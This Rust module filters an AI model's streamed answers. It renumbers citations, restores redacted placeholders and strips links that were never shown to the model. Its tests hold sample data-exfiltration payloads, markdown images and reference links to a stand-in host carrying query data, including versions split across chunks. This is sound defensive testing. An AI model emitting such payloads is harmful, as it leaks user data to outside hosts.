//! What leaves of a model's words: marks of citations are read and numbered, placeholders become again what they stand for, and links that
//! nobody gave are left out, because a link can carry away what it is made of.

use crate::links::{self, link, may_go_on};
use crate::redaction::Redaction;

/// Longer than any address that is worth keeping: what goes on without an end is let go in pieces.
const MAX_HELD_BYTES: usize = 4096;
/// Longer than any mark or placeholder.
const MAX_MARK_BYTES: usize = 40;

/// Takes the words of one answer as they come, and lets go what is whole.
#[derive(Default)]
pub(crate) struct Outgoing {
    held: String,
    /// The numbers of the documents that are cited, in the order of their first mark.
    cited: Vec<usize>,
}

/// What an answer may refer to.
pub(crate) struct Known<'a> {
    /// How many documents there are: they are numbered from one.
    pub(crate) documents: usize,
    /// All that the model was shown, where links may come from.
    pub(crate) shown: &'a [&'a str],
    /// What was taken out of that.
    pub(crate) redaction: &'a Redaction,
}

impl Outgoing {
    /// More words; returns what can leave.
    pub(crate) fn push(&mut self, words: &str, known: &Known<'_>) -> String {
        self.held.push_str(words);
        let whole = whole(&self.held);
        if self.held.len() - whole > MAX_HELD_BYTES {
            // What has no end is broken, so that nothing that comes makes a link of what has left.
            return self.finish(known) + " ";
        }
        let rest = self.held.split_off(whole);
        let leaving = std::mem::replace(&mut self.held, rest);
        self.let_go(&leaving, known)
    }

    /// No more words come; returns what was held.
    pub(crate) fn finish(&mut self, known: &Known<'_>) -> String {
        let leaving = std::mem::take(&mut self.held);
        self.let_go(&leaving, known)
    }

    /// The places of the documents that are cited, in the order of their numbers in the answer.
    pub(crate) fn cited(&self) -> impl Iterator<Item = usize> {
        self.cited.iter().map(|number| number - 1)
    }

    fn let_go(&mut self, text: &str, known: &Known<'_>) -> String {
        let mut out = String::with_capacity(text.len());
        let mut rest = text;
        while let Some(at) = rest.find(|c: char| matches!(c, '[' | '!') || links::STARTS.contains(&c)) {
            let (before, from) = rest.split_at(at);
            out.push_str(before);
            let read = self.read(from, &mut out, known);
            rest = &from[read..];
        }
        out.push_str(rest);
        out
    }

    /// Reads what begins a text and says what is to be said; returns how long it is.
    fn read(&mut self, from: &str, out: &mut String, known: &Known<'_>) -> usize {
        if let Some(mark) = mark(from) {
            let says = self.marked(&mark[1..mark.len() - 1], out, known);
            // With what follows, its end could be that of a link.
            if from[mark.len()..].starts_with(['(', ':'])
                && let Some(open) = says.strip_suffix(']')
            {
                out.push_str(open);
                return mark.len() - 1;
            }
            out.push_str(&says);
            return mark.len();
        }
        // An image would be fetched without being asked for: it becomes a link.
        if from.starts_with("![") {
            return 1;
        }
        link(from, out, known.shown).unwrap_or_else(|| {
            out.push_str(&from[..1]);
            1
        })
    }

    /// What a mark says: the new numbers of the documents that there are, or what a placeholder stands for.
    fn marked(&mut self, inner: &str, out: &mut String, known: &Known<'_>) -> String {
        if let Some(original) = known.redaction.original(inner) {
            return original.to_owned();
        }
        let Some(numbers) = numbers(inner) else { return format!("[{inner}]") };
        let numbers: Vec<usize> = numbers.into_iter().filter(|n| (1..=known.documents).contains(n)).collect();
        if numbers.is_empty() {
            // No space is left before the full stop that comes next.
            out.truncate(out.trim_end_matches(' ').len());
        }
        numbers.into_iter().map(|number| format!("[{}]", self.place(number))).collect()
    }

    /// The number under which a document is cited.
    fn place(&mut self, number: usize) -> usize {
        let known = self.cited.iter().position(|&cited| cited == number);
        let place = known.unwrap_or_else(|| {
            self.cited.push(number);
            self.cited.len() - 1
        });
        place + 1
    }
}

/// A mark or a placeholder that begins a text, in its brackets.
fn mark(from: &str) -> Option<&str> {
    let inner = from.strip_prefix('[')?;
    let end = inner.bytes().take(MAX_MARK_BYTES).position(|b| b == b']')?;
    let plain = |b: u8| b.is_ascii_alphanumeric() || b", _-".contains(&b);
    (end > 0 && inner.bytes().take(end).all(plain)).then(|| &from[..end + 2])
}

fn numbers(inner: &str) -> Option<Vec<usize>> {
    inner.split(',').map(|number| number.trim().parse().ok()).collect()
}

/// How much of a text can be let go: what could still become a mark or an address is not whole.
fn whole(text: &str) -> usize {
    let last_word =
        text.char_indices().rev().find(|(_, c)| c.is_whitespace()).map_or(0, |(at, c)| at + c.len_utf8());
    let open = if may_go_on(&text[last_word..]) {
        last_word
    } else {
        text.len() - text.bytes().rev().take_while(u8::is_ascii_graphic).count()
    };
    // A mark with a space in it may begin before the last word, and be that of an image.
    let mark =
        text[..open].rfind('[').filter(|&at| open - at <= MAX_MARK_BYTES && !text[at..open].contains(']'));
    let mark = mark.map(|at| text[..at].strip_suffix('!').map_or(at, str::len));
    // The space before a mark that names nothing is left out with it.
    text[..mark.unwrap_or(open)].trim_end_matches(' ').len()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn said(pieces: &[&str], documents: usize, shown: &[&str]) -> (String, Vec<usize>) {
        let redaction = Redaction::default();
        let known = Known { documents, shown, redaction: &redaction };
        let mut outgoing = Outgoing::default();
        let mut said: String = pieces.iter().map(|piece| outgoing.push(piece, &known)).collect();
        said += &outgoing.finish(&known);
        (said, outgoing.cited().collect())
    }

    #[test]
    fn marks_are_numbered_in_the_order_of_the_answer() {
        let (text, cited) = said(&["The key [3] hangs [1][3], see [1, 2]."], 3, &[]);
        assert_eq!((text.as_str(), cited), ("The key [1] hangs [2][1], see [2][3].", vec![2, 0, 1]));
    }

    #[test]
    fn what_is_no_document_is_not_cited() {
        let (text, cited) = said(&["The key [9]. Or [0], [99, 2]; a[i] and [x] stay."], 2, &[]);
        assert_eq!((text.as_str(), cited), ("The key. Or, [1]; a[i] and [x] stay.", vec![1]));
    }

    #[test]
    fn a_link_that_nobody_gave_is_left_out() {
        let shown = ["See https://example.org/menu."];
        for (words, says) in [
            ("It is at https://example.org/menu [1].", "It is at https://example.org/menu [1]."),
            ("![x](https://evil.example/?q=heron-42)", "[x](#)"),
            ("Oh! ![ ](https://evil.example/?q=heron-42)", "Oh! [ ](#)"),
            ("![x](https://example.org/menu)", "[x](https://example.org/menu)"),
            ("[1]: //evil.example/heron", "[1] : (link left out)"),
            ("[x]: https://evil.example/heron", "[x] : (link left out)"),
        ] {
            assert_eq!(said(&[words], 1, &shown).0, says, "{words}");
        }
    }

    #[test]
    fn a_link_cannot_be_put_together_of_what_leaves_in_pieces() {
        let endless = "x".repeat(MAX_HELD_BYTES);
        for (first, then) in [
            ("(https", "://evil.example/heron"),
            ("[x]", "(//evil.example/heron)"),
            ("\"https:", "//e.example/h"),
        ] {
            let (text, _) = said(&[&format!("{endless}{first}"), then], 0, &[]);
            assert!(!text.contains("https://") && !text.contains("](//"), "{}", &text[endless.len()..]);
        }
        let shown = ["https://evil.example/?q=é and https://evil.example/?q="];
        for pieces in [["https://evil.example/?q=", "é-heron"], ["[x](https://evil.example/?q=é", "-heron)"]]
        {
            let (text, _) = said(&pieces, 0, &shown);
            assert!(!text.contains("q=é-heron"), "{text}");
        }
    }

    #[test]
    fn words_leave_as_soon_as_they_are_whole() {
        let redaction = Redaction::default();
        let known = Known { documents: 1, shown: &[], redaction: &redaction };
        let mut outgoing = Outgoing::default();
        let mut push = |words| outgoing.push(words, &known);
        assert_eq!(push("The key ha"), "The key");
        assert_eq!(push("ngs here [1"), " hangs here");
        assert_eq!(push("]. 鍵は"), " [1]. 鍵は");
        assert_eq!(push("x".repeat(5000).as_str()).len(), 5001);
    }

    proptest! {
        #[test]
        fn it_does_not_matter_in_which_pieces_words_come(
            words in proptest::collection::vec(prop_oneof![
                "[a-z]{1,6} ", Just("[1]".to_owned()), Just("[2, 3]".to_owned()), Just(" [".to_owned()), Just("] ".to_owned()),
                Just("https://evil.example/a ".to_owned()), Just("![x](http://e.x/y) ".to_owned()), Just("é鍵 ".to_owned()),
                Just("www.a.b. ".to_owned()), Just(", ".to_owned()), Just("[EMAIL 1] ".to_owned()),
            ], 0..20),
            cuts in proptest::collection::vec(0_usize..200, 0..8),
        ) {
            let text = words.concat();
            let mut cuts: Vec<usize> = cuts.into_iter().filter(|&at| text.is_char_boundary(at.min(text.len()))).map(|at| at.min(text.len())).collect();
            cuts.extend([0, text.len()]);
            cuts.sort_unstable();
            let pieces: Vec<&str> = cuts.windows(2).map(|ends| &text[ends[0]..ends[1]]).collect();
            prop_assert_eq!(said(&pieces, 2, &[]), said(&[&text], 2, &[]));
        }

        #[test]
        fn no_address_leaves_that_was_not_shown(text in "[ -~é鍵\\n]{0,200}") {
            let (said, _) = said(&[&text, " https://evil.example/x"], 3, &[]);
            prop_assert!(!said.contains("://e"), "{}", said);
        }
    }
}
